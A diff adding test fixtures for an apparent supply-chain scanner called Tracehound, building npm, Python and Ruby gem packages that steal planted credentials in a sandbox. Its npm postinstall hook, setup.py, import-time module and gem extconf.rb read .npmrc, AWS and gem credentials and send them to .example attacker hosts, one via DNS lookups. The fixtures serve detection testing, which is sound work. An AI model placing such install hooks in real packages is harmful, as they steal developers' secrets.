@@ -1,0 +1,194 @@
+"""Projects for end-to-end scans, built in temporary directories, and a loopback gem server.
+
+Malicious dependencies here only ever run inside Tracehound's sandbox, where every name resolves to
+the sinkhole; their "attacker" hosts are .example names. They steal the sandbox's planted
+honeytokens, so a scan that works must report the exfiltration as proven.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import functools
+import json
+import os
+import shutil
+import subprocess
+import threading
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+BACKEND = os.environ.get("TRACEHOUND_TEST_BACKEND", "ptrace")
+
+
+def write(path: Path, text: str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    return path
+
+
+def npm_lock(project: Path) -> None:
+    """Resolve the project's lockfile against the real registry (no package code runs)."""
+    subprocess.run(["npm", "install", "--package-lock-only", "--ignore-scripts", "--no-audit", "--no-fund"],
+                   cwd=project, check=True, capture_output=True, timeout=300)
+
+
+NPM_STEAL_INSTALL = (
+    "node -e \"require('http').request({host:'collect.attacker.example',path:'/t',method:'POST'})"
+    ".end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))\""
+)
+
+NPM_STEAL_IMPORT = """\
+const fs = require('fs'), os = require('os'), http = require('http');
+const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
+const req = http.request({host: 'telemetry.attacker.example', path: '/c', method: 'POST'});
+req.on('error', () => {});
+req.end(Buffer.from(creds).toString('base64'));
+module.exports = {ok: true};
+"""
+
+
+def npm_project(root: Path, variant: str | None) -> Path:
+    """is-number from the registry, plus (optionally) a local dependency that steals at install or import."""
+    deps = {"is-number": "7.0.0"}
+    if variant:
+        pkg = {"name": "evil-helper", "version": "2.0.1", "main": "index.js", "license": "MIT"}
+        index = "module.exports = {ok: true};\n"
+        if variant == "install":
+            pkg["scripts"] = {"postinstall": NPM_STEAL_INSTALL}
+        else:
+            index = NPM_STEAL_IMPORT
+        write(root / "vendor/evil-helper/package.json", json.dumps(pkg, indent=2))
+        write(root / "vendor/evil-helper/index.js", index)
+        deps["evil-helper"] = "file:vendor/evil-helper"
+    write(root / "package.json", json.dumps({"name": "shop", "version": "1.0.0", "private": True,
+                                             "dependencies": deps}, indent=2))
+    npm_lock(root)
+    return root
+
+
+PY_SETUP = """\
+from setuptools import setup
+import os, socket, base64
+if {steal_install}:
+    data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
+    try:
+        s = socket.create_connection(('upload.attacker.example', 443), timeout=5)
+        s.sendall(b'POST /u HTTP/1.1\\r\\nHost: upload.attacker.example\\r\\n\\r\\n' + base64.b64encode(data))
+        s.close()
+    except OSError:
+        pass
+setup(name='evil-utils', version='0.3.0', py_modules=['evil_utils'])
+"""
+
+PY_MODULE_IMPORT = """\
+import os, socket
+for line in open(os.path.expanduser('~/.aws/credentials')):
+    if line.startswith('aws_access_key_id'):
+        key = line.split('=', 1)[1].strip()
+        try:
+            socket.getaddrinfo(key.lower() + '.dns.attacker.example', 53)
+        except OSError:
+            pass
+"""
+
+
+def python_sdist(dest_dir: Path, variant: str) -> Path:
+    """An sdist written by hand: building it with setup.py would run the payload on the host."""
+    import io
+    import tarfile
+
+    files = {
+        "setup.py": PY_SETUP.format(steal_install="True" if variant == "install" else "False"),
+        "evil_utils.py": PY_MODULE_IMPORT if variant == "import" else "VALUE = 1\n",
+        "PKG-INFO": "Metadata-Version: 2.1\nName: evil-utils\nVersion: 0.3.0\n",
+        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
+    }
+    dest_dir.mkdir(parents=True, exist_ok=True)
+    out = dest_dir / "evil_utils-0.3.0.tar.gz"
+    with tarfile.open(out, "w:gz") as tf:
+        for name, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(f"evil_utils-0.3.0/{name}")
+            info.size = len(data)
+            info.mode = 0o644
+            tf.addfile(info, io.BytesIO(data))
+    return out
+
+
+def pip_project(root: Path, variant: str | None) -> Path:
+    lines = ["six==1.16.0"]
+    if variant:
+        sdist = python_sdist(root / "vendor", variant)
+        lines.append(f"./vendor/{sdist.name}")
+    write(root / "requirements.txt", "\n".join(lines) + "\n")
+    return root
+
+
+class _QuietHandler(SimpleHTTPRequestHandler):
+    def log_message(self, *args):
+        pass
+
+
+GEM_SPEC = """\
+Gem::Specification.new do |s|
+  s.name = "{name}"; s.version = "{version}"; s.summary = "test gem"; s.authors = ["tracehound"]
+  s.license = "MIT"; s.files = {files}
+  {extra}
+end
+"""
+GEM_DROPPER_EXTCONF = """\
+require "mkmf"
+require "socket"
+token = File.read(File.join(Dir.home, ".gem", "credentials"))
+begin
+  s = TCPSocket.new("drop.attacker.example", 8080)
+  s.write("POST /g HTTP/1.1\\r\\nHost: drop.attacker.example\\r\\n\\r\\n" + token)
+  s.close
+rescue SystemCallError, SocketError
+end
+create_makefile("dropper/dropper")
+"""
+
+
+@contextlib.contextmanager
+def gem_server(root: Path):
+    """Serves `tidy-colors` (benign) and `colour-tools` (an extconf.rb that steals the gem API key)
+    from 127.0.0.1; yields the port."""
+    srv = root / "srv"
+    (srv / "gems").mkdir(parents=True)
+    gems = {
+        "tidy-colors": ("1.2.0", {"lib/tidy-colors.rb": "module TidyColors; end\n"}, ""),
+        "colour-tools": ("0.9.1", {
+            "lib/colour-tools.rb": "module ColourTools; end\n",
+            "ext/dropper/extconf.rb": GEM_DROPPER_EXTCONF,
+            "ext/dropper/dropper.c": "#include <ruby.h>\nvoid Init_dropper(void) {}\n",
+        }, 's.extensions = ["ext/dropper/extconf.rb"]'),
+    }
+    for name, (version, files, extra) in gems.items():
+        d = root / name
+        for rel, text in files.items():
+            write(d / rel, text)
+        write(d / f"{name}.gemspec", GEM_SPEC.format(name=name, version=version, files=json.dumps(sorted(files)),
+                                                     extra=extra))
+        subprocess.run(["gem", "build", f"{name}.gemspec"], cwd=d, check=True, capture_output=True)
+        for g in d.glob("*.gem"):
+            shutil.copy(g, srv / "gems" / g.name)
+    subprocess.run(["gem", "generate_index", "-d", str(srv)], check=True, capture_output=True)
+    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(srv)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield server.server_address[1]
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def bundler_project(root: Path, port: int, malicious: bool) -> Path:
+    gems = [("tidy-colors", "1.2.0")] + ([("colour-tools", "0.9.1")] if malicious else [])
+    write(root / "Gemfile", f'source "http://127.0.0.1:{port}"\n\n'
+          + "".join(f'gem "{n}", "{v}"\n' for n, v in gems))
+    specs = "".join(f"    {n} ({v})\n" for n, v in sorted(gems))
+    deps = "".join(f"  {n} (= {v})\n" for n, v in sorted(gems))
+    write(root / "Gemfile.lock", f"GEM\n  remote: http://127.0.0.1:{port}/\n  specs:\n{specs}\n"
+          f"PLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n{deps}\nBUNDLED WITH\n   2.3.15\n")
+    return root
